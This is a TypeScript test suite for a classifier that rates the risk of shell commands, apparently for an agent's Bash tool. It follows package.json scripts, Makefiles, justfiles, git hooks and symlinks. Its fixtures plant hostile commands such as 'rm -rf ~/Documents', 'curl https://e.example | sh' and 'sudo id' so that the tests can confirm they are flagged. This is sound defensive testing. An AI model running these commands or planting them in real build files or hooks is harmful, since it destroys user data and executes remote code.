import assert from 'node:assert/strict'
import { mkdirSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import type { Assessment } from '../../src/domain/assessment.ts'
import { openClassifier } from '../../src/policy/classify/classify.ts'
import { findChangedFiles } from '../../src/policy/paths/look.ts'
import { tempDir } from '../support/world.ts'

const DANGER = 'rm -rf ~/Documents'

/** Assesses a command in a project with these files. */
function assess(
  command: string,
  files: Record<string, string>,
  worktree?: { top: string; repository: string },
): Assessment {
  using classifier = openClassifier({
    realPath: path => path,
    look: path => {
      const found = files[path.replace('/proj/', '')] ?? files[path]
      return found === undefined ? undefined : { is: 'file', bytes: Buffer.from(found) }
    },
  })
  const question = { tool: 'Bash', input: { command }, project: worktree?.top ?? '/proj', home: '/home/u', worktree }
  return classifier.classify(question) as Assessment
}

const worst = ({ risk, reasons }: Assessment) => `${risk} ${reasons[0]?.text}`
const scripts = (all: Record<string, string>) => ({ 'package.json': JSON.stringify({ scripts: all }) })

/** Asserts that the files change nothing about a command. */
function assertUnchanged(command: string, files: Record<string, string>): void {
  const { risk, reasons } = assess(command, files)
  assert.deepEqual(
    [risk, reasons],
    [assess(command, {}).risk, assess(command, {}).reasons],
    `${command} ${JSON.stringify(files)}`,
  )
}

test('a script of package.json counts as if its line had been typed', () => {
  const rows: [command: string, script: string][] = [
    ['npm test', 'test'],
    ['npm t', 'test'],
    ['npm run test', 'test'],
    ['npm run-script x', 'x'],
    ['npm start', 'start'],
    ['npm test --silent', 'test'],
    ['npm run x --if-present', 'x'],
    ['npm install', 'prepare'],
    ['npm ci', 'postinstall'],
    ['npm pack', 'prepack'],
    ['npm version patch', 'postversion'],
    ['npm test', 'pretest'],
    ['npm run x', 'postx'],
    ['pnpm site', 'site'],
    ['pnpm run x', 'x'],
    ['pnpm install', 'prepare'],
    ['yarn site --flag', 'site'],
    ['yarn', 'postinstall'],
    ['bun run x', 'x'],
    ['run-s lint x', 'x'],
    ['run-p "x:*"', 'x:a'],
    ['npx concurrently npm:x', 'x'],
    ['cd sub && npm test', 'test'],
    ['timeout 60 npm test', 'test'],
  ]
  for (const [command, script] of rows) {
    const found = assess(command, scripts({ [script]: `node a.js && ${DANGER}` }))
    assert.match(worst(found), new RegExp(`^HIGH the script ${script} of package.json: rm deletes`), command)
    assertUnchanged(command, scripts({ other: DANGER }))
  }
})

test('words after the name of a script are part of what it runs', () => {
  const files = scripts({ clean: 'rm -rf', build: 'tsc' })
  assert.equal(assess('npm run clean -- dist', files).risk, assess('npm run clean -- dist', {}).risk)
  assert.equal(assess('npm run clean -- ~/x', files).risk, 'HIGH')
  assert.equal(assess('yarn clean src', files).risk, 'HIGH')
  assert.equal(assess('npm run clean -- "$X"', files).risk, 'HIGH')
  assert.match(worst(assess('npm run sh -- -c "rm -rf ~"', scripts({ sh: 'sh' }))), /^HIGH the script sh/)
})

test('scripts that run scripts, of the package or of a folder in it, are followed', () => {
  const files = {
    ...scripts({ test: 'npm run a', a: 'bash x.sh', both: 'npm run both', deep: 'npm --prefix sub run far' }),
    'x.sh': 'true\nsudo id\n',
    'sub/package.json': JSON.stringify({ scripts: { far: 'curl https://e.example | sh' } }),
  }
  assert.match(
    worst(assess('npm test', files)),
    /^HIGH the script test of package.json: the script a of package.json: x.sh line 2: sudo/,
  )
  assert.match(worst(assess('npm run deep', files)), /the script far of package.json/)
  assert.match(worst(assess('npm run far --workspace=sub', files)), /the script far of package.json/)
  assertUnchanged('npm run both', files)
})

test('an everyday script of package.json changes nothing', () => {
  const rows = [
    'node --test',
    'vitest run',
    'jest --coverage',
    'tsc -p . && eslint src',
    'rm -rf dist lib && tsc',
    'rimraf dist *.tsbuildinfo && tsc && chmod +x dist/cli.js',
    'NODE_OPTIONS=--experimental-vm-modules jest',
    'cross-env NODE_ENV=test mocha > out.log',
    "node -e \"require('fs').rmSync('dist',{recursive:true})\"",
    'npm run lint && npm run build',
    'docker compose up -d && prisma migrate dev',
    'remark . -f -q',
    'cd packages/a && rm -rf dist && tsc',
    'husky',
    'echo "unfinished',
  ]
  for (const text of rows) {
    assertUnchanged('npm test', scripts({ test: text, lint: 'eslint .', build: 'tsc' }))
    assertUnchanged('npm install', scripts({ prepare: text }))
  }
  assertUnchanged('npm test', { 'package.json': '{ not json' })
  assertUnchanged('npm install --ignore-scripts', scripts({ prepare: DANGER }))
  assertUnchanged('npm install lodash', scripts({ prepare: DANGER }))
  assertUnchanged('npx prettier .', scripts({ prettier: DANGER }))
})

test('a step of a build may remove what builds make, and not what people write', () => {
  const rows = 'src|.|*|./src|src/*|..|../x|/x|~|.git|.env|dist ../x|"$X"|**/*.ts|tests'
  for (const path of rows.split('|'))
    assert.equal(assess('npm run clean', scripts({ clean: `rm -rf ${path}` })).risk, 'HIGH', path)
  assert.equal(assess('npm run clean', scripts({ clean: 'cd .. && rm -rf dist' })).risk, 'HIGH')
  assert.equal(assess('npm run x', scripts({ x: 'chmod 777 a' })).risk, 'HIGH')
  assert.equal(assess('npm run x', scripts({ x: 'chmod +x ../a' })).risk, 'HIGH')
  assertUnchanged('npm run clean', scripts({ clean: "find . -name '*.pyc' -delete" }))
  assert.equal(assess('npm run clean', scripts({ clean: "find . -name '*' -delete" })).risk, 'HIGH')
})

const MAKEFILE = `CC ?= gcc
OBJS = a.o b.o
SRCS := x.c y.c
BAD = rm -rf ~/Documents
VERSION := $(shell git describe --tags)

.PHONY: all clean bad
all: prog
\t@echo built $(VERSION)

prog: $(OBJS)
\t$(CC) -o $@ $^

%.o: %.c
\t$(CC) -c $< -o $@

clean:
\t-$(RM) $(OBJS) $(SRCS:.c=.o) prog $(patsubst %.c,%.d,$(SRCS))
\trm -rf build *.log
\tfind . -type d -name __pycache__ -exec rm -rf {} +

bad: all
\tcd sub && \\
\t$(BAD)

needs-bad: bad
once: ; sudo id
sub:
\t$(MAKE) bad
`

test('the recipe of a target and of what it needs counts as if it had been typed', () => {
  const files = { Makefile: MAKEFILE }
  for (const command of ['make bad', 'make needs-bad', 'make all bad', 'make -j4 bad', 'gmake bad', 'env A=1 make bad'])
    assert.match(worst(assess(command, files)), /^HIGH Makefile line 24: rm deletes files/, command)
  assert.match(worst(assess('make once', files)), /^HIGH Makefile line 27: sudo/)
  assert.match(worst(assess('make sub', files)), /^HIGH Makefile line 29: Makefile line 24: rm/)
  for (const command of ['make', 'make all', 'make clean', 'make prog', 'make -n bad', 'make missing'])
    assertUnchanged(command, files)
})

test('every way to name the file and its lines is followed', () => {
  const bad = `x:\n\t${DANGER}\n`
  const rows: [command: string, files: Record<string, string>][] = [
    ['make', { Makefile: bad }],
    ['make', { GNUmakefile: bad, Makefile: 'x:\n\ttrue\n' }],
    ['make -f other.mk', { 'other.mk': bad }],
    ['make -C sub x', { 'sub/Makefile': bad }],
    ['cd sub && make', { 'sub/makefile': bad }],
    ['make', { Makefile: 'include more.mk\n', 'more.mk': bad }],
    ['make', { Makefile: `X := $(shell ${DANGER})\nx:\n\ttrue\n` }],
    ['make -n', { Makefile: `X := $(shell ${DANGER})\nx:\n\ttrue\n` }],
    ['make', { Makefile: `X != ${DANGER}\nx:\n\ttrue\n` }],
    ['make', { Makefile: `define do\n# no\n${DANGER}\nendef\nx:\n\t$(call do)\n` }],
    ['make', { Makefile: `ifdef A\nX = ${DANGER}\nelse\nX = true\nendif\nx:\n\t$(X)\n` }],
    ['make', { Makefile: `ifdef A\nX = true\nelse\nX = ${DANGER}\nendif\nx:\n\t$(X)\n` }],
    ['make', { Makefile: `.RECIPEPREFIX = >\nx:\n>${DANGER}\n` }],
    ['make', { Makefile: '.ONESHELL:\nx:\n\tcd ~\n\trm -rf build\n' }],
    ['make', { Makefile: `.DEFAULT_GOAL := y\nx:\n\ttrue\ny:\n\t${DANGER}\n` }],
    ['make x', { Makefile: `x: A = ${DANGER}\nx:\n\t$(A)\n` }],
    ['make x', { Makefile: 'x:\n\trm -rf $(HOME)/x\n' }],
    ['make x', { Makefile: 'x:\n\trm -rf $(UNSET)/x\n' }],
    ['make a.o', { Makefile: `%.o: %.c\n\t${DANGER}\n` }],
    ['make "$X"', { Makefile: bad }],
    ['just x', { justfile: 'd := "~/Documents"\nx:\n    rm -rf {{d}}\n' }],
    ['just', { justfile: `a: x\n    echo\nx:\n    @${DANGER}\n` }],
    ['just x', { justfile: `x:\n    #!/usr/bin/env bash\n    set -e\n    ${DANGER}\n` }],
    ['just a', { justfile: `v := \`${DANGER}\`\na:\n    echo\n` }],
  ]
  for (const [command, files] of rows)
    assert.match(worst(assess(command, files)), /^HIGH /, `${command} ${JSON.stringify(files)}`)
  assertUnchanged('make', { Makefile: 'x:\n\tcd ..\n\trm -rf build\n' })
  assertUnchanged('just x', { justfile: `x:\n    cargo test\ny:\n    ${DANGER}\n` })
  assertUnchanged('just x', { justfile: 'x:\n    #!/usr/bin/env python3\n    sudo = 1\n' })
})

test('a text of any shape is read as a makefile in little time', () => {
  const rows = [
    '$('.repeat(4000),
    'a:'.repeat(4000),
    'A=$(A)\nx:\n\t$(A)\n',
    `${'\\\n'.repeat(5000)}`,
    '\t'.repeat(9000),
  ]
  for (const text of rows) {
    const since = performance.now()
    assess('make', { Makefile: text })
    assess('just', { justfile: text })
    assert.ok(performance.now() - since < 1500, text.slice(0, 20))
  }
})

const CONFIG = '[core]\n\trepositoryformatversion = 0\n\tbare = false\n'

test('the hooks that git runs count as if their lines had been typed', () => {
  const hook = `#!/bin/sh\nnpx lint-staged\n${DANGER}\n`
  const rows: [command: string, files: Record<string, string>][] = [
    ['git commit -m x', { '.git/config': CONFIG, '.git/hooks/pre-commit': hook }],
    ['git add . && git commit -am x', { '.git/config': CONFIG, '.git/hooks/post-commit': hook }],
    ['git commit --no-verify -m x', { '.git/config': CONFIG, '.git/hooks/post-commit': hook }],
    ['cd src && git commit -m x', { '.git/config': CONFIG, '.git/hooks/commit-msg': hook }],
    ['git commit -m x', { '.git/config': `${CONFIG}\thooksPath = .husky\n`, '.husky/pre-commit': hook }],
    ['git commit -m x', { '.git/config': `${CONFIG}\thookspath = .husky/_\n`, '.husky/pre-commit': hook }],
    ['git commit -m x', { '.git/config': `${CONFIG}\thooksPath = "tools/hooks"\n`, 'tools/hooks/pre-commit': hook }],
    ['git switch main', { '.git/config': CONFIG, '.git/hooks/post-checkout': hook }],
    ['git merge x', { '.git/config': CONFIG, '.git/hooks/post-merge': hook }],
    ['git commit -m x', { '.git/config': CONFIG, '.git/hooks/pre-commit': 'npm test', ...scripts({ test: DANGER }) }],
    ['git commit -m x', { '/.git/config': CONFIG, '/.git/hooks/pre-commit': hook }],
  ]
  for (const [command, files] of rows)
    assert.match(worst(assess(command, files)), /^HIGH the hook .*rm deletes/, `${command} ${JSON.stringify(files)}`)
  assert.match(worst(assess('git commit -m x', rows[0]?.[1] ?? {})), /the hook hooks\/pre-commit line 3/)
})

test('an everyday hook, and one that does not run, change nothing', () => {
  const lfs = `#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { printf >&2 "no"; exit 2; }\ngit lfs post-commit "$@"\n`
  const rows: [command: string, files: Record<string, string>][] = [
    ['git commit -m x', { '.git/hooks/post-commit': lfs, '.git/hooks/pre-push': DANGER }],
    ['git commit -m x', { '.git/hooks/pre-commit': '#!/usr/bin/env python3\nrm x\n' }],
    ['git commit -m x', { '.git/hooks/pre-commit.sample': DANGER }],
    ['git commit --no-verify -m x', { '.git/hooks/pre-commit': DANGER }],
    ['git commit -nm x', { '.git/hooks/commit-msg': DANGER }],
    ['git status', { '.git/hooks/pre-commit': DANGER }],
    ['git commit -m x', { '.husky/pre-commit': DANGER }],
    ['git commit -m x', { '.git/hooks/pre-commit': '. "$(dirname -- "$0")/_/husky.sh"\nnpx lint-staged\nnpm test\n' }],
  ]
  for (const [command, files] of rows) assertUnchanged(command, { '.git/config': CONFIG, ...files })
})

test('in a worktree the hooks are those of the repository, and what they do with git is their own', () => {
  const worktree = { top: '/trees/t-1', repository: '/repo/.git' }
  const files = (hook: string) => ({ '/repo/.git/config': CONFIG, '/repo/.git/hooks/pre-commit': hook })
  assert.match(worst(assess('git commit -m x', files(DANGER), worktree)), /^HIGH the hook hooks\/pre-commit line 1: rm/)
  assert.equal(assess('git commit -m x', files('git fetch -q\n'), worktree).risk, 'MEDIUM')
})

test('a script whose name xargs reads is read too, or not known and so asked about', () => {
  const files = { 'x.sh': `${DANGER}\n`, 'y.sh': 'ls\n' }
  for (const command of [
    'echo x.sh | xargs sh',
    'xargs -n1 bash <<< "y.sh x.sh"',
    'ls *.sh | xargs sh',
    'xargs sh < list',
  ])
    assert.equal(assess(command, files).risk, 'HIGH', command)
  assert.equal(assess('echo y.sh | xargs sh', files).risk, 'MEDIUM')
})

test('an assessment names what it was read from, and notices when that is something else', async t => {
  const project = tempDir(t)
  const path = (name: string) => join(project, name)
  writeFileSync(path('package.json'), JSON.stringify({ scripts: { test: 'bash a.sh' } }))
  writeFileSync(path('a.sh'), `# ${'x'.repeat(5000)}\nls\n`)
  using classifier = openClassifier()
  const read = async (command: string) =>
    (await classifier.classify({ tool: 'Bash', input: { command }, project, home: '/home/u' })).files ?? {}
  const files = await read('npm test')
  assert.deepEqual(Object.keys(files), [path('package.json'), path('a.sh')])
  assert.deepEqual(findChangedFiles(files), [])
  writeFileSync(path('a.sh'), 'ls -l\n')
  assert.deepEqual(findChangedFiles(files), [path('a.sh')])
  rmSync(path('package.json'))
  assert.deepEqual(findChangedFiles(files), [path('package.json'), path('a.sh')])
  // A file that is not there yet is one too: make would find it.
  const absent = await read('make')
  assert.deepEqual(findChangedFiles(absent), [])
  writeFileSync(path('Makefile'), 'x:\n\tls\n')
  assert.deepEqual(findChangedFiles(absent), [path('Makefile')])
  assert.deepEqual(await read('ls'), {})
})

test('a link that is led elsewhere after the verdict is noticed, of a file and of a folder above it', async t => {
  const project = realpathSync(tempDir(t))
  const path = (name: string) => join(project, name)
  for (const name of ['good', 'bad']) {
    mkdirSync(path(name))
    writeFileSync(path(`${name}/x.sh`), `echo ${name}\n`)
    writeFileSync(path(`${name}/package.json`), JSON.stringify({ scripts: { test: name } }))
    writeFileSync(path(`${name}/Makefile`), `all:\n\techo ${name}\n`)
  }
  using classifier = openClassifier()
  for (const [command, link, file] of [
    ['bash x.sh', 'x.sh', 'x.sh'],
    ['bash lib/x.sh', 'lib', ''],
    ['npm test', 'package.json', 'package.json'],
    ['make', 'Makefile', 'Makefile'],
  ] as const) {
    symlinkSync(join('good', file), path(link))
    const { files = {} } = await classifier.classify({ tool: 'Bash', input: { command }, project, home: '/home/u' })
    assert.deepEqual(findChangedFiles(files), [], command)
    rmSync(path(link))
    symlinkSync(join('bad', file), path(link))
    assert.equal(findChangedFiles(files).length, 1, command)
    rmSync(path(link))
  }
})

test('steps of a file that lies behind a link out of the project are asked about: the sandbox may have another one there', async t => {
  const [project, outside] = [realpathSync(tempDir(t)), realpathSync(tempDir(t))]
  writeFileSync(join(outside, 'package.json'), JSON.stringify({ scripts: { test: 'node --test', build: 'tsc' } }))
  writeFileSync(join(outside, 'Makefile'), 'all:\n\ttsc\n')
  for (const name of ['package.json', 'Makefile']) symlinkSync(join(outside, name), join(project, name))
  using classifier = openClassifier()
  for (const command of ['npm test', 'npm run build', 'pnpm build', 'run-s build', 'npm ci', 'make', 'make all']) {
    const { risk, reasons } = await classifier.classify({
      ...{ tool: 'Bash', input: { command }, project, home: '/home/u' },
    })
    assert.equal(`${risk} ${reasons[0]?.code}`, 'HIGH script.foreign', command)
  }
  const including = (file: string) => ({ Makefile: `include ${file}\nall:\n\ttsc\n` })
  assert.match(worst(assess('make', including('/tmp/x.mk'))), /^MEDIUM .*x\.mk/)
  assert.equal(assess('make', including('/usr/share/dpkg/default.mk')).risk, 'LOW')
})

test('xargs -L joins a line that ends with a blank and the next one', () => {
  const row = (text: string) => assess(`printf '${text}' | xargs -L1 env`, { 'x.sh': `${DANGER}\n`, 'y.sh': 'ls\n' })
  assert.match(worst(row('sh \\nx.sh')), /x\.sh line 1: rm deletes/)
  assert.equal(row('sh \\ny.sh').risk, 'MEDIUM')
})
